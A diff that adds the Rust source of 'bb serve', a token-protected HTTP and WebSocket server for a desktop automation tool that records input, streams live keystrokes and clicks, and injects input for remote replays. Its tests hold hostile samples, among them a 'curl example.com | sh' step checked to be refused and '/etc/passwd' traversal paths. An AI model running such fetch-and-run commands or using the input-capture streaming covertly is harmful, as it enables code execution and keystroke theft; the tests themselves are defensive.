@@ -0,0 +1,806 @@
+//! `bb serve`: automation and recording over HTTP
+//!
+//! Every operation is a POST of a JSON object of parameters, answered with
+//! the same {success, data, error} envelope as `bb --json`:
+//!
+//! ```text
+//! curl -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" \
+//!     -d '{"selector": "role:Button"}' localhost:8123/find
+//! ```
+//!
+//! or a JSON-RPC 2.0 call to `/rpc` with the operation as the method.
+//! `run` batches can't have `exec` or `applescript` steps unless started with
+//! `--allow-exec`.
+//!
+//! Localhost is no boundary against web pages, which can POST to it, so
+//! every request but `GET /health` needs the token printed at startup (or
+//! kept in `--token-file`), requests with an `Origin` header, which only
+//! browsers send, are refused, and POSTs must be `application/json`, which a
+//! page can't send without the preflight this server never answers.
+//! `GET /openapi.json` describes them all. Requests are handled one at a
+//! time, on one desktop connection that keeps the last tree for clicks by
+//! index.
+//!
+//! `GET /events` upgrades to a WebSocket sending each live input event as a
+//! JSON text message, in the recording format. It takes the token like the
+//! rest, or as `token` in the query for clients that can't set headers, and
+//! the rest of the query picks which:
+//!
+//! ```text
+//! ws://localhost:8123/events?token=...&kinds=click,text&app=Safari&moves=100
+//! ```
+//!
+//! `kinds` keeps events of these kinds, `app` those made while the app is
+//! in front (known from the next app or window event), and `moves` lets one
+//! move through per that many ms.
+//!
+//! `GET /inject` upgrades to a WebSocket that makes this machine an
+//! [`Agent`] for replays run elsewhere with `bb replay --remote`: each
+//! message is an injector call, answered once it's done. Listening beyond
+//! localhost takes `--token-file`, whose token the other machine sends.
+
+use crate::{error_output, replay_json, say, Output};
+use anyhow::{anyhow, bail, Result};
+use bigbrother::error::{Error, ErrorCode};
+use bigbrother::ops::{self, get, need, Operation};
+use bigbrother::prelude::*;
+use bigbrother::recorder::remote::{Agent, Transport};
+use serde_json::{json, Value};
+use std::fs::OpenOptions;
+use std::io::{ErrorKind, Write};
+use std::net::{IpAddr, TcpStream};
+use std::path::{Component, Path};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::thread;
+use std::time::Duration;
+use tiny_http::{Header, Method, ReadWrite, Request, Response, Server};
+use tungstenite::client::IntoClientRequest;
+use tungstenite::handshake::derive_accept_key;
+use tungstenite::protocol::Role;
+use tungstenite::stream::MaybeTlsStream;
+use tungstenite::{Message, WebSocket};
+
+/// Operations of the server's own, beside [`ops::OPERATIONS`]
+const OPERATIONS: &[Operation] = &[
+    ("record/start", "Start recording user input", &[
+        ("name", "string", false),
+        ("description", "string", false),
+        ("tags", "array", false),
+    ]),
+    ("record/stop", "Stop recording and save the workflow", &[]),
+    ("record/status", "Whether a recording is running, and its event count", &[]),
+    ("replay", "Replay a saved workflow", &[("file", "string", true), ("speed", "number", false)]),
+    ("workflows", "Saved workflows, optionally by tag, app or text", &[
+        ("tag", "string", false),
+        ("app", "string", false),
+        ("text", "string", false),
+    ]),
+    ("workflow", "A saved workflow with its events", &[("file", "string", true)]),
+];
+
+struct Recording {
+    workflow: RecordedWorkflow,
+    handle: RecordingHandle,
+}
+
+#[derive(Default)]
+struct State {
+    /// What clients send as `Authorization: Bearer <token>`
+    token: String,
+    /// Connects on first use, so recording works where automation doesn't
+    ops: ops::Session,
+    recording: Option<Recording>,
+    /// Capture shared by `/events` connections, started with the first and
+    /// stopped when the last closes
+    live: Option<EventStream>,
+    /// `/events` connections open
+    watchers: Arc<AtomicUsize>,
+}
+
+pub(crate) fn run(
+    host: &str,
+    port: u16,
+    token_file: Option<&Path>,
+    allow_exec: bool,
+) -> Result<()> {
+    let token = match token_file {
+        Some(path) => token_from(path)?,
+        None if !loopback(host) => bail!(
+            "Listening on {} lets other machines drive this one: pass --token-file, \
+             and give them the token in it",
+            host
+        ),
+        None => new_token()?,
+    };
+    let server = Server::http((host, port)).map_err(|e| anyhow::anyhow!("{}", e))?;
+    say!("Serving on http://{}:{} (Ctrl+C to stop), see /openapi.json", host, port);
+    if token_file.is_none() {
+        // Even with --quiet, or no client could get in
+        eprintln!("Token: {}", token);
+    }
+    let running = Arc::new(AtomicBool::new(true));
+    let r = running.clone();
+    ctrlc::set_handler(move || r.store(false, Ordering::SeqCst))?;
+    let ops = ops::Session::new().allow_exec(allow_exec);
+    let mut state = State { token, ops, ..State::default() };
+    while running.load(Ordering::SeqCst) {
+        if let Some(recording) = &mut state.recording {
+            recording.handle.drain(&mut recording.workflow);
+        }
+        // Connections get copies; the stream's own queue just needs emptying
+        if let Some(live) = &state.live {
+            while live.try_recv().is_some() {}
+        }
+        if state.watchers.load(Ordering::SeqCst) == 0 {
+            if let Some(live) = state.live.take() {
+                live.stop();
+            }
+        }
+        if let Some(request) = server.recv_timeout(Duration::from_millis(100))? {
+            state.respond(request);
+        }
+    }
+    if let Some(live) = state.live.take() {
+        live.stop();
+    }
+    if state.recording.is_some() {
+        let saved = state.stop_recording()?;
+        say!("Saved: {}", saved["path"].as_str().unwrap_or_default());
+    }
+    Ok(())
+}
+
+impl State {
+    fn respond(&mut self, mut request: Request) {
+        let url = request.url();
+        let path = url.split('?').next().unwrap_or_default().trim_matches('/').to_string();
+        if let Some((status, e)) = refusal(&request, &path, &self.token) {
+            return reply(request, status, envelope_error(e.into()));
+        }
+        match (request.method(), path.as_str()) {
+            (Method::Get, "events") => return self.events(request),
+            (Method::Get, "inject") => return inject(request),
+            _ => {}
+        }
+        let (status, body) = match (request.method(), path.as_str()) {
+            (Method::Get, "openapi.json") => (200, openapi()),
+            (Method::Get, "health") => (200, json!({"success": true})),
+            (Method::Post, _) => {
+                let mut body = String::new();
+                let params = match request.as_reader().read_to_string(&mut body) {
+                    Ok(_) if body.trim().is_empty() => Ok(json!({})),
+                    Ok(_) => serde_json::from_str::<Value>(&body),
+                    Err(e) => Err(serde_json::Error::io(e)),
+                };
+                match (path.as_str(), params) {
+                    ("rpc", Ok(call)) => (200, self.rpc(call)),
+                    ("rpc", Err(e)) => (200, rpc_error(Value::Null, -32700, &e.to_string(), None)),
+                    (_, Err(e)) => (400, envelope_error(anyhow::anyhow!("Invalid JSON: {}", e))),
+                    (method, Ok(params)) if known(method) => match self.call(method, &params) {
+                        Ok(data) => (200, json!(Output::ok(data))),
+                        Err(e) => (500, envelope_error(e)),
+                    },
+                    (method, Ok(_)) => {
+                        (404, envelope_error(anyhow::anyhow!("No operation {}", method)))
+                    }
+                }
+            }
+            _ => (404, envelope_error(anyhow::anyhow!("Not found, see GET /openapi.json"))),
+        };
+        reply(request, status, body);
+    }
+
+    /// `GET /events`: upgrade to a WebSocket and stream matching events to
+    /// it from a thread of its own
+    fn events(&mut self, request: Request) {
+        let filter = match EventFilter::parse(request.url()) {
+            Ok(filter) => filter,
+            Err(e) => return reply(request, 400, envelope_error(e)),
+        };
+        let events = match self.live_events() {
+            // Filtering by app needs the app and window events too
+            Ok(live) if filter.kinds.is_empty() || filter.app.is_some() => live.subscribe(),
+            Ok(live) => live.subscribe_to(&filter.kinds),
+            Err(e) => return reply(request, 500, envelope_error(e)),
+        };
+        if let Some(socket) = upgrade(request) {
+            let watchers = self.watchers.clone();
+            watchers.fetch_add(1, Ordering::SeqCst);
+            thread::spawn(move || {
+                filter.send(events, socket);
+                watchers.fetch_sub(1, Ordering::SeqCst);
+            });
+        }
+    }
+
+    fn live_events(&mut self) -> Result<&EventStream> {
+        if self.live.is_none() {
+            let recorder = WorkflowRecorder::new();
+            if !recorder.check_permissions().all_granted() {
+                return Err(crate::missing_permission("Accessibility and Input Monitoring").into());
+            }
+            self.live = Some(recorder.stream()?);
+        }
+        Ok(self.live.as_ref().unwrap())
+    }
+
+    /// A JSON-RPC 2.0 call; errors carry the structured error as `data`
+    fn rpc(&mut self, call: Value) -> Value {
+        let id = call.get("id").cloned().unwrap_or(Value::Null);
+        let Some(method) = call.get("method").and_then(Value::as_str) else {
+            return rpc_error(id, -32600, "Invalid request: no method", None);
+        };
+        if !known(method) {
+            return rpc_error(id, -32601, &format!("No operation {}", method), None);
+        }
+        let params = call.get("params").cloned().unwrap_or_else(|| json!({}));
+        match self.call(method, &params) {
+            Ok(result) => json!({"jsonrpc": "2.0", "id": id, "result": result}),
+            Err(e) => {
+                let error = error_output(&e).error;
+                let message = error.as_ref().map_or_else(|| e.to_string(), |e| e.message.clone());
+                rpc_error(id, -32000, &message, error.map(|e| json!(e)))
+            }
+        }
+    }
+
+    fn call(&mut self, method: &str, p: &Value) -> Result<Value> {
+        Ok(match method {
+            "record/start" => self.start_recording(p)?,
+            "record/stop" => self.stop_recording()?,
+            "record/status" => match &self.recording {
+                Some(recording) => json!({
+                    "recording": true,
+                    "name": recording.workflow.name,
+                    "events": recording.handle.stats().sent,
+                    "paused": recording.handle.is_paused(),
+                }),
+                None => json!({"recording": false}),
+            },
+            "replay" => {
+                let workflow = WorkflowStorage::new()?.load(&workflow_file(p)?)?;
+                let speed = get(p, "speed")?.unwrap_or(1.0);
+                json!(replay_json(&Replayer::new().speed(speed).play(&workflow)?))
+            }
+            "workflows" => {
+                let mut query = WorkflowQuery::new();
+                if let Some(tag) = get::<String>(p, "tag")? {
+                    query = query.tag(tag);
+                }
+                if let Some(app) = get::<String>(p, "app")? {
+                    query = query.app(app);
+                }
+                if let Some(text) = get::<String>(p, "text")? {
+                    query = query.text(text);
+                }
+                json!(WorkflowStorage::new()?.search(&query)?)
+            }
+            "workflow" => json!(WorkflowStorage::new()?.load(&workflow_file(p)?)?),
+            _ => self.ops.call(method, p)?,
+        })
+    }
+
+    fn start_recording(&mut self, p: &Value) -> Result<Value> {
+        if self.recording.is_some() {
+            bail!("Already recording, stop first");
+        }
+        let recorder = WorkflowRecorder::new();
+        if !recorder.check_permissions().all_granted() {
+            return Err(crate::missing_permission("Accessibility and Input Monitoring").into());
+        }
+        let name = get::<String>(p, "name")?.unwrap_or_else(|| "workflow".to_string());
+        let (mut workflow, handle) = recorder.start(&name)?;
+        workflow.description = get(p, "description")?;
+        workflow.tags = get(p, "tags")?.unwrap_or_default();
+        self.recording = Some(Recording { workflow, handle });
+        Ok(json!({"recording": true, "name": name}))
+    }
+
+    fn stop_recording(&mut self) -> Result<Value> {
+        let Some(Recording { mut workflow, handle }) = self.recording.take() else {
+            bail!("Not recording");
+        };
+        let stats = handle.stats();
+        handle.stop(&mut workflow);
+        let path = WorkflowStorage::new()?.save(&workflow)?;
+        Ok(json!({"path": path, "events": workflow.events.len(), "dropped": stats.dropped}))
+    }
+}
+
+/// The `file` parameter, a recording's name in the workflow directory;
+/// paths would let callers read, and replay, any file
+fn workflow_file(p: &Value) -> Result<String> {
+    let file: String = need(p, "file")?;
+    let mut components = Path::new(&file).components();
+    match (components.next(), components.next()) {
+        (Some(Component::Normal(name)), None) if name == file.as_str() => Ok(file),
+        _ => bail!("Not a recording's name: {}, see the workflows operation", file),
+    }
+}
+
+/// What an `/events` connection asked for, from its query
+#[derive(Debug, Default)]
+struct EventFilter {
+    /// All kinds when empty
+    kinds: Vec<EventKind>,
+    /// Only events made while this app is in front
+    app: Option<String>,
+    /// Let one move through per this many ms
+    moves: u64,
+}
+
+impl EventFilter {
+    fn parse(url: &str) -> Result<Self> {
+        let mut filter = Self::default();
+        let query = url.split_once('?').map_or("", |(_, query)| query);
+        for pair in query.split('&').filter(|pair| !pair.is_empty()) {
+            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
+            let value = percent_decode(value);
+            match name {
+                "token" => {}
+                "kinds" => {
+                    for name in value.split(',').filter(|name| !name.is_empty()) {
+                        let kind = EventKind::from_name(name)
+                            .ok_or_else(|| anyhow!("Unknown event kind: {}", name))?;
+                        filter.kinds.push(kind);
+                    }
+                }
+                "app" => filter.app = Some(value),
+                "moves" => {
+                    filter.moves =
+                        value.parse().map_err(|_| anyhow!("moves should be ms, not {}", value))?
+                }
+                other => bail!("Unknown filter {}, expected kinds, app or moves", other),
+            }
+        }
+        Ok(filter)
+    }
+
+    /// Send matching events until the client goes away or the server stops
+    fn send(self, events: Subscription, mut socket: Socket) {
+        let mut front: Option<String> = None;
+        for event in events.throttle_moves(self.moves) {
+            if let EventData::App { n: app, .. } | EventData::Window { a: app, .. } = &event.data {
+                front = Some(app.clone());
+            }
+            if !self.kinds.is_empty() && !self.kinds.contains(&event.data.kind()) {
+                continue;
+            }
+            if let Some(app) = &self.app {
+                if !front.as_ref().is_some_and(|front| front.eq_ignore_ascii_case(app)) {
+                    continue;
+                }
+            }
+            let Ok(text) = serde_json::to_string(&event) else { continue };
+            if socket.send(Message::text(text)).is_err() {
+                return;
+            }
+        }
+        let _ = socket.close(None);
+        let _ = socket.flush();
+    }
+}
+
+/// Query parameter `name` of `url`, decoded
+fn query(url: &str, name: &str) -> Option<String> {
+    let query = url.split_once('?')?.1;
+    let mut pairs = query.split('&').filter_map(|pair| pair.split_once('='));
+    pairs.find(|(key, _)| *key == name).map(|(_, value)| percent_decode(value))
+}
+
+/// `%20` and `+` back to spaces, and so on
+fn percent_decode(text: &str) -> String {
+    let mut bytes = Vec::with_capacity(text.len());
+    let mut rest = text.as_bytes();
+    while let Some((&byte, tail)) = rest.split_first() {
+        let hex = tail.get(..2).and_then(|hex| std::str::from_utf8(hex).ok());
+        match (byte, hex.and_then(|hex| u8::from_str_radix(hex, 16).ok())) {
+            (b'%', Some(decoded)) => {
+                bytes.push(decoded);
+                rest = &tail[2..];
+                continue;
+            }
+            (b'+', _) => bytes.push(b' '),
+            _ => bytes.push(byte),
+        }
+        rest = tail;
+    }
+    String::from_utf8_lossy(&bytes).into_owned()
+}
+
+type Socket = WebSocket<Box<dyn ReadWrite + Send>>;
+
+/// Accept a WebSocket handshake, or answer that it isn't one
+fn upgrade(request: Request) -> Option<Socket> {
+    let key = request
+        .headers()
+        .iter()
+        .find(|h| h.field.equiv("Sec-WebSocket-Key"))
+        .map(|h| derive_accept_key(h.value.as_bytes()));
+    let Some(accept) = key else {
+        reply(request, 400, envelope_error(anyhow!("Expected a WebSocket upgrade")));
+        return None;
+    };
+    let response = Response::empty(101)
+        .with_header(Header::from_bytes("Sec-WebSocket-Accept", accept).unwrap());
+    let stream = request.upgrade("websocket", response);
+    Some(WebSocket::from_raw_socket(stream, Role::Server, None))
+}
+
+/// `GET /inject`: run a remote replay's injector calls here, from a thread
+/// of their own, until the replaying side hangs up
+fn inject(request: Request) {
+    let Some(mut socket) = upgrade(request) else { return };
+    thread::spawn(move || {
+        let agent = Agent::new();
+        while let Ok(message) = socket.read() {
+            let answer = match message {
+                Message::Text(text) => agent.handle(&text),
+                Message::Close(_) => break,
+                _ => continue,
+            };
+            if socket.send(Message::text(answer)).is_err() {
+                break;
+            }
+        }
+    });
+}
+
+/// The replaying side of `/inject`, for `bb replay --remote`
+pub(crate) struct Remote(WebSocket<MaybeTlsStream<TcpStream>>);
+
+impl Remote {
+    /// Connect to a `bb serve` at `url`, e.g. `ws://10.0.0.5:8123`, with
+    /// its token
+    pub(crate) fn connect(url: &str, token: &str) -> Result<Self> {
+        let url = match url.trim_end_matches('/') {
+            url if url.ends_with("/inject") => url.to_string(),
+            url => format!("{}/inject", url),
+        };
+        let mut request = url.as_str().into_client_request()?;
+        let bearer = format!("Bearer {}", token).parse()?;
+        request.headers_mut().insert("Authorization", bearer);
+        let (socket, _) = tungstenite::connect(request)
+            .map_err(|e| anyhow!("Couldn't reach the agent at {}: {}", url, e))?;
+        Ok(Self(socket))
+    }
+}
+
+impl Transport for Remote {
+    fn send(&mut self, message: &str) -> Result<String> {
+        self.0.send(Message::text(message))?;
+        loop {
+            match self.0.read()? {
+                Message::Text(answer) => return Ok(answer.to_string()),
+                Message::Close(_) => bail!("The agent hung up"),
+                _ => {}
+            }
+        }
+    }
+}
+
+fn loopback(host: &str) -> bool {
+    let ip = host.trim_start_matches('[').trim_end_matches(']');
+    host.eq_ignore_ascii_case("localhost") || ip.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
+}
+
+/// A random token, as hex
+fn new_token() -> Result<String> {
+    let mut bytes = [0u8; 24];
+    getrandom::fill(&mut bytes).map_err(|e| anyhow!("No randomness for a token: {}", e))?;
+    Ok(bytes.iter().map(|b| format!("{:02x}", b)).collect())
+}
+
+/// The token in `path`, or a new one saved there, readable by its owner only
+fn token_from(path: &Path) -> Result<String> {
+    match std::fs::read_to_string(path) {
+        Ok(token) if !token.trim().is_empty() => return Ok(token.trim().to_string()),
+        Err(e) if e.kind() != ErrorKind::NotFound => {
+            bail!("Can't read the token in {}: {}", path.display(), e)
+        }
+        _ => {}
+    }
+    let token = new_token()?;
+    let mut options = OpenOptions::new();
+    options.write(true).create(true).truncate(true);
+    #[cfg(unix)]
+    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+    options.open(path)?.write_all(token.as_bytes())?;
+    Ok(token)
+}
+
+/// Why a request is turned away unheard, if it is: it comes from a web page,
+/// lacks the token, or posts something other than JSON
+fn refusal(request: &Request, path: &str, token: &str) -> Option<(u16, Error)> {
+    let header = |name| header(request, name);
+    if header("Origin").is_some() {
+        return Some((403, Error::permission_denied("Requests from web pages are refused")));
+    }
+    if path != "health" {
+        let bearer = header("Authorization").and_then(|value| value.strip_prefix("Bearer "));
+        let sent = match bearer {
+            Some(sent) => Some(sent.trim().to_string()),
+            // For WebSocket clients that can't set headers
+            None if *request.method() == Method::Get => query(request.url(), "token"),
+            None => None,
+        };
+        if !sent.is_some_and(|sent| same(&sent, token)) {
+            let hint = "Send Authorization: Bearer <the token bb serve printed>".to_string();
+            let e = Error::permission_denied("Missing or wrong token").with_suggestions(vec![hint]);
+            return Some((401, e));
+        }
+    }
+    let json = header("Content-Type").is_some_and(|value| {
+        let media = value.split(';').next().unwrap_or_default();
+        media.trim().eq_ignore_ascii_case("application/json")
+    });
+    if *request.method() == Method::Post && !json {
+        let e = Error::new(ErrorCode::Unknown, "Send parameters as Content-Type: application/json");
+        return Some((415, e));
+    }
+    None
+}
+
+fn header<'a>(request: &'a Request, name: &str) -> Option<&'a str> {
+    let mut headers = request.headers().iter();
+    let found = headers.find(|h| h.field.as_str().as_str().eq_ignore_ascii_case(name));
+    found.map(|h| h.value.as_str())
+}
+
+/// Whether `sent` is `token`, taking as long wherever they differ
+fn same(sent: &str, token: &str) -> bool {
+    let differ = sent.bytes().zip(token.bytes()).fold(0, |acc, (a, b)| acc | (a ^ b));
+    sent.len() == token.len() && differ == 0
+}
+
+fn reply(request: Request, status: u16, body: Value) {
+    let response = Response::from_string(body.to_string())
+        .with_status_code(status)
+        .with_header(Header::from_bytes("Content-Type", "application/json").unwrap());
+    let _ = request.respond(response);
+}
+
+fn known(method: &str) -> bool {
+    ops::known(method) || OPERATIONS.iter().any(|(name, ..)| *name == method)
+}
+
+fn envelope_error(e: anyhow::Error) -> Value {
+    serde_json::to_value(error_output(&e)).unwrap_or_default()
+}
+
+fn rpc_error(id: Value, code: i64, message: &str, data: Option<Value>) -> Value {
+    let mut error = json!({"code": code, "message": message});
+    if let Some(data) = data {
+        error["data"] = data;
+    }
+    json!({"jsonrpc": "2.0", "id": id, "error": error})
+}
+
+/// OpenAPI 3 description of every operation, generated from [`OPERATIONS`]
+fn openapi() -> Value {
+    let mut paths = serde_json::Map::new();
+    for (name, summary, params) in ops::OPERATIONS.iter().chain(OPERATIONS) {
+        let properties: serde_json::Map<_, _> = params
+            .iter()
+            .map(|(param, kind, _)| (param.to_string(), json!({"type": kind})))
+            .collect();
+        let required: Vec<_> = params.iter().filter(|p| p.2).map(|p| p.0).collect();
+        let mut schema = json!({"type": "object", "properties": properties});
+        if !required.is_empty() {
+            schema["required"] = json!(required);
+        }
+        paths.insert(format!("/{}", name), json!({"post": {
+            "operationId": name.replace('/', "_"),
+            "summary": summary,
+            "requestBody": {"content": {"application/json": {"schema": schema}}},
+            "responses": {
+                "200": envelope_response("Done"),
+                "401": envelope_response("No token, or the wrong one"),
+                "500": envelope_response("Failed, with the error"),
+            },
+        }}));
+    }
+    let all = ops::OPERATIONS.iter().chain(OPERATIONS);
+    let methods: Vec<_> = all.map(|(name, ..)| *name).collect();
+    paths.insert("/rpc".to_string(), json!({"post": {
+        "operationId": "rpc",
+        "summary": "JSON-RPC 2.0: any operation as the method, its parameters as params",
+        "requestBody": {"content": {"application/json": {"schema": {
+            "type": "object",
+            "properties": {
+                "jsonrpc": {"type": "string"},
+                "id": {},
+                "method": {"type": "string", "enum": methods},
+                "params": {"type": "object"},
+            },
+            "required": ["method"],
+        }}}},
+        "responses": {
+            "200": {"description": "JSON-RPC response"},
+            "401": envelope_response("No token, or the wrong one"),
+        },
+    }}));
+    let query = |name: &str, description: &str| {
+        json!({"name": name, "in": "query", "description": description,
+            "schema": {"type": "string"}})
+    };
+    paths.insert("/events".to_string(), json!({"get": {
+        "operationId": "events",
+        "summary": "WebSocket of live input events as JSON, one per message",
+        "parameters": [
+            query("kinds", "Comma-separated event kinds, e.g. click,key,text"),
+            query("app", "Only events made while this app is in front"),
+            query("moves", "At most one move event per this many ms"),
+            query("token", "The token, when it can't be sent as a header"),
+        ],
+        "responses": {
+            "101": {"description": "Switching to the WebSocket protocol"},
+            "400": envelope_response("Not a WebSocket upgrade, or a bad filter"),
+            "401": envelope_response("No token, or the wrong one"),
+            "403": envelope_response("From a web page"),
+        },
+    }}));
+    paths.insert("/inject".to_string(), json!({"get": {
+        "operationId": "inject",
+        "summary": "WebSocket taking injector calls from bb replay --remote, one per message",
+        "responses": {
+            "101": {"description": "Switching to the WebSocket protocol"},
+            "400": envelope_response("Not a WebSocket upgrade"),
+            "401": envelope_response("No token, or the wrong one"),
+            "403": envelope_response("From a web page"),
+        },
+    }}));
+    json!({
+        "openapi": "3.0.3",
+        "info": {"title": "bb", "version": env!("CARGO_PKG_VERSION")},
+        "paths": paths,
+        "security": [{"token": []}],
+        "components": {
+            "securitySchemes": {"token": {"type": "http", "scheme": "bearer"}},
+            "schemas": {
+                "Envelope": {
+                    "type": "object",
+                    "properties": {
+                        "success": {"type": "boolean"},
+                        "data": {},
+                        "error": {"$ref": "#/components/schemas/Error"},
+                    },
+                    "required": ["success"],
+                },
+                "Error": {
+                    "type": "object",
+                    "properties": {
+                        "code": {"type": "string"},
+                        "message": {"type": "string"},
+                        "suggestions": {"type": "array", "items": {"type": "string"}},
+                        "context": {},
+                    },
+                    "required": ["code", "message"],
+                },
+            },
+        },
+    })
+}
+
+fn envelope_response(description: &str) -> Value {
+    json!({
+        "description": description,
+        "content": {"application/json": {"schema": {"$ref": "#/components/schemas/Envelope"}}},
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tiny_http::TestRequest;
+
+    fn post(headers: &[(&str, &str)]) -> Request {
+        let mut request = TestRequest::new().with_method(Method::Post).with_path("/apps");
+        for (name, value) in headers {
+            request = request.with_header(Header::from_bytes(*name, *value).unwrap());
+        }
+        request.into()
+    }
+
+    #[test]
+    fn refuses_pages_strangers_and_non_json() {
+        let refused = |request: Request| refusal(&request, "apps", "s3cret").map(|r| r.0);
+        let token = ("Authorization", "Bearer s3cret");
+        let json = ("Content-Type", "application/json; charset=utf-8");
+
+        assert_eq!(refused(post(&[token, json])), None);
+        assert_eq!(refused(post(&[token, json, ("Origin", "https://evil.example")])), Some(403));
+        assert_eq!(refused(post(&[json])), Some(401));
+        assert_eq!(refused(post(&[("Authorization", "Bearer s3cre"), json])), Some(401));
+        assert_eq!(refused(post(&[("Authorization", "s3cret"), json])), Some(401));
+        assert_eq!(refused(post(&[token])), Some(415));
+        assert_eq!(refused(post(&[token, ("Content-Type", "text/plain")])), Some(415));
+
+        let health: Request = TestRequest::new().with_path("/health").into();
+        assert_eq!(refusal(&health, "health", "s3cret").map(|r| r.0), None);
+        let openapi: Request = TestRequest::new().with_path("/openapi.json").into();
+        assert_eq!(refusal(&openapi, "openapi.json", "s3cret").map(|r| r.0), Some(401));
+    }
+
+    #[test]
+    fn documents_the_token_everywhere() {
+        let openapi = openapi();
+        let paths = openapi["paths"].as_object().unwrap();
+        for (path, methods) in paths {
+            for (method, operation) in methods.as_object().unwrap() {
+                let missing = format!("{} {} doesn't say it needs the token", method, path);
+                assert!(operation["responses"].get("401").is_some(), "{}", missing);
+            }
+        }
+        assert!(paths.contains_key("/inject"));
+    }
+
+    #[test]
+    fn guards_event_sockets() {
+        let events = |path: &str, origin: Option<&str>| {
+            let mut request = TestRequest::new().with_path(path);
+            if let Some(origin) = origin {
+                request = request.with_header(Header::from_bytes("Origin", origin).unwrap());
+            }
+            refusal(&request.into(), "events", "s3cret").map(|r| r.0)
+        };
+        assert_eq!(events("/events?token=s3cret&kinds=key", None), None);
+        assert_eq!(events("/events?kinds=key", None), Some(401));
+        assert_eq!(events("/events?token=guess", None), Some(401));
+        assert_eq!(events("/events?token=s3cret", Some("https://evil.example")), Some(403));
+        assert!(EventFilter::parse("/events?token=s3cret&kinds=key").is_ok());
+
+        let inject = |request: TestRequest| refusal(&request.into(), "inject", "s3cret");
+        let bearer = Header::from_bytes("Authorization", "Bearer s3cret").unwrap();
+        assert_eq!(inject(TestRequest::new().with_path("/inject")).map(|r| r.0), Some(401));
+        assert!(inject(TestRequest::new().with_path("/inject").with_header(bearer)).is_none());
+    }
+
+    #[test]
+    fn refuses_served_commands_by_default() {
+        let batch = json!({"steps": [{"exec": "curl example.com | sh"}]});
+        let e = State::default().call("run", &batch).unwrap_err();
+        assert_eq!(e.downcast_ref::<Error>().unwrap().code, ErrorCode::PermissionDenied);
+        let batch = json!({"steps": [{"applescript": "do shell script \"curl example.com | sh\""}]});
+        let e = State::default().call("run", &batch).unwrap_err();
+        assert_eq!(e.downcast_ref::<Error>().unwrap().code, ErrorCode::PermissionDenied);
+    }
+
+    #[test]
+    fn knows_loopback_hosts() {
+        for host in ["127.0.0.1", "127.1.2.3", "::1", "[::1]", "localhost", "LOCALHOST"] {
+            assert!(loopback(host), "{}", host);
+        }
+        for host in ["0.0.0.0", "::", "10.0.0.5", "example.com"] {
+            assert!(!loopback(host), "{}", host);
+        }
+    }
+
+    #[test]
+    fn takes_only_names_of_recordings() {
+        let file = |file: &str| workflow_file(&json!({"file": file}));
+        assert_eq!(file("login.jsonl").unwrap(), "login.jsonl");
+        for path in ["../secret.jsonl", "/etc/passwd", "a/b.jsonl", "..", ".", "", "a/"] {
+            assert!(file(path).is_err(), "{}", path);
+        }
+        #[cfg(windows)]
+        assert!(file("C:x.jsonl").is_err() && file("a\\b.jsonl").is_err());
+    }
+
+    #[test]
+    fn keeps_tokens_in_private_files() {
+        let path = std::env::temp_dir().join(format!("bb-token-{}", std::process::id()));
+        let _ = std::fs::remove_file(&path);
+        let token = token_from(&path).unwrap();
+        assert_eq!(token.len(), 48);
+        assert_eq!(token_from(&path).unwrap(), token);
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
+            assert_eq!(mode & 0o777, 0o600);
+        }
+        std::fs::remove_file(&path).unwrap();
+    }
+}